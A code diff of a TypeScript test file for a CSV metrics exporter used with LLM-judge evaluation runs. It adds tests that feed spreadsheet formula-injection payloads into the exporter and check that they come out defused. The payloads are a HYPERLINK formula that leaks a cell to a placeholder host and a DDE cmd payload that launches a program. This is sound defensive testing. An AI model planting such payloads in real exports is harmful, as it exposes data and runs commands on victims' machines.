@@ -1,6 +1,8 @@
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { aggregateMetrics, computePolluxMetrics } from '../../../src/lib/pollux/index.ts';
-import { metricsCsv, pyFloatRepr, scoreRunRows } from '../../../src/lib/metrics/index.ts';
+import { judgmentsCsv } from '../../../src/lib/io/index.ts';
+import { computePolluxMetrics } from '../../../src/lib/pollux/index.ts';
+import { computeReport, metricsCsv, pyFloatRepr } from '../../../src/lib/metrics/index.ts';
 import { EXPECTED_CSV, INSTRUCTIONS, SCORES, runJudgments } from './fixtures/small-run.ts';
 
 describe('pyFloatRepr (Python repr(float), as pandas to_csv writes it)', () => {
@@ -38,18 +40,48 @@ describe('metrics.csv golden (metrics.py layout and numbers)', () => {
   });
 
   it("a run's parsed judgments give the identical matrix and CSV", () => {
-    const byId = new Map(INSTRUCTIONS.map((i) => [i.prompt_id, i]));
-    const { rows, coverage } = scoreRunRows(runJudgments(), byId, 'official');
-    expect(metricsCsv(aggregateMetrics(rows))).toBe(EXPECTED_CSV);
+    const run = { id: 'r', label: 'r', judgments: runJudgments() };
+    const [{ pollux, coverage }] = computeReport({ settings: { gate: 'official', resamples: 0, seed: 1 }, instructions: INSTRUCTIONS, run, categories: [] }, null).systems;
+    expect(metricsCsv(pollux)).toBe(EXPECTED_CSV);
     expect(coverage).toMatchObject({ total: 13, judged: 11, unparsed: 1, outOfScale: 1, gated: 3, instructions: 6, gatedInstructions: 2 });
   });
 
   it('the critical-only gate keeps task-specific binary criteria from zeroing their prompt', () => {
-    const byId = new Map(INSTRUCTIONS.map((i) => [i.prompt_id, i]));
-    const { rows } = scoreRunRows(runJudgments(), byId, 'critical-only');
-    const m = aggregateMetrics(rows);
+    const run = { id: 'r', label: 'r', judgments: runJudgments() };
+    const m = computeReport({ settings: { gate: 'critical-only', resamples: 0, seed: 1 }, instructions: INSTRUCTIONS, run, categories: [] }, null).systems[0].pollux;
     // P5's "Только нужная информация" = 1 is no longer a gate; P4 still fails the critical gate.
     expect(m.matrix['Только нужная информация']['ИИ как персонаж']).toBe(1);
     expect(m.matrix['Креативность']['Creative Generation']).toBe(0.5);
+  });
+});
+
+describe('metrics.csv cells that a spreadsheet would run as formulas', () => {
+  const hostile = ['=HYPERLINK("http://x/?"&A1,"ok")', '@SUM(1+1)*cmd|" /C calc"!A0', '+1', '-2+3', '\tTab', '\rCR', '=multi\nline'];
+
+  it('are written with a leading apostrophe and quoted, exactly as the judgments CSV writes them', () => {
+    const matrix = Object.fromEntries(hostile.map((name, i) => [name, { '=meta': i - 3 }]));
+    const csv = metricsCsv({ matrix, mean_over_meta: {}, mean_over_criteria: { '=meta': -0.5 }, grand_mean: -0.25 });
+    const rows = Papa.parse<string[]>(csv.trimEnd(), { newline: '\n' }).data;
+    expect(rows[0]).toEqual(['criteria_name', "'=meta", 'mean_over_meta']);
+    const judgments = Papa.parse<string[]>(
+      judgmentsCsv(hostile.map((criteria_name, i) => ({ runId: 'r', jobId: `${i}`, prompt_id: i, criteria_name, rubrics: '', raw: '', status: 'pending', outcome: null, cached: false, attempts: 0, prompt: '' }))).trimEnd(),
+      { newline: '\r\n' },
+    ).data.slice(1);
+    const sorted = [...hostile].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
+    sorted.forEach((name, i) => {
+      expect(rows[i + 1][0]).toBe(`'${name}`);
+      // The same cell text as the judgments CSV gives the same name.
+      expect(rows[i + 1][0]).toBe(judgments[hostile.indexOf(name)][1]);
+    });
+    // Numbers are never touched: a negative mean stays a number.
+    expect(rows[1][1]).toBe(String(hostile.indexOf(sorted[0]) - 3) + '.0');
+    expect(csv.trimEnd().split('\n').at(-1)).toBe('mean_over_criteria,-0.5,-0.25');
+    // Quoted where defused: the raw line starts with a quote.
+    expect(csv.split('\n')[0]).toBe(`criteria_name,"'=meta",mean_over_meta`);
+  });
+
+  it('leaves POLLUX-like names as pandas writes them', () => {
+    const csv = metricsCsv({ matrix: { 'Грамотность, стиль': { QA: 1 }, 'e-mail': { QA: 0.5 } }, mean_over_meta: {}, mean_over_criteria: {}, grand_mean: null });
+    expect(csv).toBe('criteria_name,QA,mean_over_meta\ne-mail,0.5,\n"Грамотность, стиль",1.0,\nmean_over_criteria,,\n');
   });
 });
